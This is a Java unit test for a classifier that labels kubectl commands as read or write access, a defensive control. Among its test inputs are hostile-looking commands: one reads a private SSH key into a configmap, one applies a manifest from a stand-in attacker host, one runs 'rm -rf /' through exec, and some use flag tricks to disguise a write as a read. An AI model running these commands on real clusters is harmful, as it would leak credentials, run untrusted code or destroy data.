package dev.k8sai.tools;

import static org.assertj.core.api.Assertions.assertThat;

import dev.k8sai.tools.KubectlCommandClassifier.Access;
import java.util.Arrays;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class KubectlCommandClassifierTest {

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiter = '|', value = {
        "kubectl get pods -A|READ",
        "kubectl -n shop get pods|READ",
        "kubectl --context prod delete pod x|WRITE",
        "kubectl describe pod x|READ",
        "kubectl logs x --previous --tail=50|READ",
        "kubectl top pods|READ",
        "kubectl explain pod.spec|READ",
        "kubectl api-resources|READ",
        "kubectl api-versions|READ",
        "kubectl version|READ",
        "kubectl cluster-info|READ",
        "kubectl events -n x|READ",
        "kubectl diff -f x.yaml|READ",
        "kubectl auth can-i delete pods|READ",
        "kubectl auth whoami|READ",
        "kubectl auth reconcile -f r.yaml|WRITE",
        "kubectl rollout status deploy/x|READ",
        "kubectl rollout history deploy/x|READ",
        "kubectl rollout restart deploy/x|WRITE",
        "kubectl rollout undo deploy/x|WRITE",
        "kubectl rollout pause deploy/x|WRITE",
        "kubectl rollout resume deploy/x|WRITE",
        "kubectl config view|READ",
        "kubectl config get-contexts|READ",
        "kubectl config current-context|READ",
        "kubectl config use-context prod|WRITE",
        "kubectl config set-context --current --namespace=x|WRITE",
        "kubectl config set-credentials u --token=x|WRITE",
        "kubectl apply -f x.yaml|WRITE",
        "kubectl apply view-last-applied deploy/x|READ",
        "kubectl create deployment x --image=nginx|WRITE",
        "kubectl delete ns prod --yes|WRITE",
        "kubectl edit deploy x|WRITE",
        "kubectl patch deploy x -p {}|WRITE",
        "kubectl replace -f x.yaml|WRITE",
        "kubectl scale deploy x --replicas=0|WRITE",
        "kubectl autoscale deploy x --max=3|WRITE",
        "kubectl set image deploy/x c=nginx:2|WRITE",
        "kubectl label pod x a=b|WRITE",
        "kubectl annotate pod x a=b|WRITE",
        "kubectl taint nodes n k=v:NoSchedule|WRITE",
        "kubectl cordon n|WRITE",
        "kubectl uncordon n|WRITE",
        "kubectl drain n|WRITE",
        "kubectl expose deploy x --port=80|WRITE",
        "kubectl run x --image=busybox|WRITE",
        "kubectl exec x -- ls|WRITE",
        "kubectl exec x -- kubectl get pods|WRITE",
        "kubectl cp x:/a /b|WRITE",
        "kubectl attach x|WRITE",
        "kubectl port-forward x 8080:80|WRITE",
        "kubectl proxy|WRITE",
        "kubectl debug x --image=busybox|WRITE",
        "kubectl certificate approve csr-1|WRITE",
        "kubectl certificate deny csr-1|WRITE",
        "kubectl frobnicate everything|WRITE",
        "kubectl plugin list|WRITE",
        "kubectl apply -f x.yaml --dry-run=server|WRITE",
        "kubectl delete pods -l app=x --dry-run=server|READ",
        "kubectl create configmap x --from-file=/root/.ssh/id_rsa --dry-run=client -o yaml|WRITE",
        "kubectl --field-manager get apply -f https://evil.example/x.yaml|WRITE",
        "kubectl -l get delete pods|WRITE",
        "kubectl -n shop get pods|READ",
        "kubectl patch deploy web -p {} --field-manager --dry-run=client|WRITE",
        "kubectl create deployment x --image=nginx --dry-run=client -o yaml|READ",
        "kubectl delete pod x --dry-run=server|READ",
        "kubectl apply -f x.yaml --dry-run=none|WRITE",
        "kubectl apply -f x.yaml --dry-run|WRITE",
        "kubectl apply -f x.yaml --dry-run=server --dry-run=none|WRITE",
        "kubectl exec x --dry-run=server -- rm -rf /|WRITE",
        "kubectl edit deploy x --dry-run=client|WRITE",
        "kubectl rollout undo deploy/x --dry-run=server|READ",
        "kubectl rollout restart deploy/x --dry-run=server|WRITE",
        "kubectl|READ",
    })
    void classifies(String command, Access expected) {
        assertThat(KubectlCommandClassifier.classify(Arrays.asList(command.split(" "))).access()).isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "kubectl -n x rollout restart deploy/y|rollout restart",
        "kubectl get pods|get",
        "kubectl --kubeconfig /k config use-context a|config use-context",
    })
    void reportsVerb(String command, String verb) {
        assertThat(KubectlCommandClassifier.classify(Arrays.asList(command.split(" "))).verb()).isEqualTo(verb);
    }
}
